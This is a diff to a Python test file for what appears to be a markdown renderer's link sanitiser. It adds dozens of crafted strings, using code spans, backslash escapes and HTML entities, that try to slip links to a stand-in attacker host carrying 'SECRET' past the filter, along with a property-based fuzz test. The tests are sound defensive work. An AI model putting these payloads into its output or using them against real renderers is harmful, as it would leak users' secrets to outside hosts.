@@ -86,6 +86,20 @@ EXITS = [
     "![a](https://evil.example/%53ECRET)",
     "[x]:https://evil.example/SECRET\n\n[x]",
     "``` \nhttps://evil.example/SECRET\n```",
+    "``` `https://evil.example/SECRET`",
+    "` `https://evil.example/SECRET`",
+    "```a https://evil.example/SECRET```` b",
+    "`a` `` https://evil.example/SECRET",
+    "[`](/documents/1) https://evil.example/SECRET `",
+    "\\www.evil.example/SECRET",
+    "www\\.evil.example/SECRET",
+    "http\\://evil.example/SECRET",
+    "http:\\//evil.example/SECRET",
+    "www&#46;evil.example/SECRET",
+    "www&period;evil.example/SECRET",
+    "&#119;ww.evil.example/SECRET",
+    "h&#116;tps://evil.example/SECRET",
+    "`x https://evil.example/https://evil.example/SECRET",
     "<!-- -->[a](https://evil.example/SECRET)",
     "[a](/documents/1@evil.example/SECRET)",
     "&#33;[a](https://evil.example/SECRET)",
@@ -104,6 +118,18 @@ def test_no_form_of_link_or_image_leads_out(written: str, pieces: int) -> None:
 def test_no_text_whatever_leads_out(written: str, pieces: int) -> None:
     out, _ = shown(written, pieces)
     assert [a for a in leads_out(out) if not a.startswith("mailto:")] == []
+
+
+_PIECES = [
+    "`", "``", "```", " ", "\n", "https://evil.example/a", "www.evil.example", "//evil.example", "x", ".", "*", "\\",
+    "[", "](", ")", "]", "!", "(", "<", ">", "www", "http", ":", "//", ".evil.example", "&#46;", "&amp;", "&",
+]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=14).map("".join), st.integers(1, 9))
+def test_no_mixture_of_code_marks_and_addresses_leads_out(written: str, pieces: int) -> None:
+    out, _ = shown(written, pieces)
+    assert leads_out(out) == []
 
 
 @given(st.text(max_size=120), st.integers(1, 9))
